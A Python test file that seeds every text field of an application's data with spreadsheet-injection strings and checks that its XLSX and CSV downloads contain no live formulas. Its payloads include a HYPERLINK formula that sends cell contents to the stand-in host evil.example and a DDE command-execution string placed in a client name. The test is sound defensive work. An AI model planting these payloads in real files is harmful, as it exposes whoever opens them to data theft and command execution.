"""Every XLSX and CSV download, fed a formula in every text field it could export, writes no live formula.

The client is built in its fullest state (assessments, workshop, recommendations, approved roadmap, held
review); then every free-text field of every tenant-owned row of that client (and of its MSP) is set to a
formula, a review is held on that data, and every reachable URL is downloaded as the owner. Whatever answers
with a spreadsheet or CSV is opened and every cell checked, so a new export is covered as soon as it exists.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from django.apps import apps
from django.db import IntegrityError, models, transaction
from openpyxl import load_workbook

from sevenc.lib.tabular import FORMULA_STARTS
from sevenc.reports.services import hold_review, plan_review
from sevenc.tenancy.access import Caller
from sevenc.tenancy.scoping import Scope, scoped
from sevenc.web.tests.states import build
from sevenc.web.tests.test_every_page_in_every_state import reachable_urls

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
# Text fields that are keys or enumerations (checked by the database), not prose: quarter labels join runs
# to quarters, RACI letters and party kinds are one of a few values; changing them is no test.
KEYS = {"label", "quarter", "pin_quarter", "code", "status", "title_key", "letters", "kind", "block"}
# Spreadsheet and CSV downloads are named so (docs/architecture.md): `…_xlsx`, `…_csv`, `…export…`.
DOWNLOAD = re.compile(r"xlsx|csv|export|download")


def _poison(msp, client) -> int:  # type: ignore[no-untyped-def]
    changed = 0
    for model in apps.get_models():
        if not hasattr(model, "TENANT_PATH") or model.__name__ in ("Membership", "Client"):
            continue
        names = [
            (f.name, f.max_length or 10_000)
            for f in model._meta.get_fields()
            if isinstance(f, models.CharField | models.TextField) and not f.choices and f.name not in KEYS
        ]
        rows = scoped(model, Scope(msp, client_id=client.pk))
        for pk in rows.values_list("pk", flat=True) if names else []:
            # unique per row: some texts (assessment titles) are unique per client
            text = f"{FORMULA} {pk}"
            for name, size in names:
                try:  # one field at a time: a field the database ties to another (a partner's name only for
                    with transaction.atomic():  # partner delivery) keeps its value
                        rows.filter(pk=pk).update(**{name: text if len(text) <= size else f"=1+{pk}"})
                except IntegrityError:
                    continue
            changed += 1
    return changed


def _cells(response) -> list[str]:  # type: ignore[no-untyped-def]
    kind = response.get("Content-Type", "")
    if "spreadsheetml" in kind:
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        return [cell.value for cell in cells if isinstance(cell.value, str)]
    if "csv" in kind:
        return [value for row in csv.reader(io.StringIO(response.content.decode())) for value in row]
    return []


def test_no_export_writes_a_live_formula(client, msp, client_co, engineer, owner):
    build("held_review", client_co, engineer)
    assert _poison(msp, client_co) > 10
    # the Client's own name too (it heads sheets and file names)
    type(client_co).objects.filter(pk=client_co.pk).update(
        name="=cmd|' /C calc'!A0", primary_contact_name=FORMULA
    )
    review = plan_review(client=client_co, date=dt.date(2026, 11, 20), decisions=FORMULA, agenda=FORMULA)
    hold_review(actor=Caller.system(msp), review=review)
    client.force_login(owner)
    exported, unsafe = 0, []
    for name, url in reachable_urls(client_co):
        if not DOWNLOAD.search(f"{name} {url}"):
            continue
        response = client.get(url)
        values = _cells(response)
        exported += bool(values)
        unsafe += [f"{name}: {value[:40]!r}" for value in values if value.startswith(FORMULA_STARTS)]
    assert exported >= 3  # the assessment workbook, the roadmap workbooks of both reviews at least
    assert unsafe == []
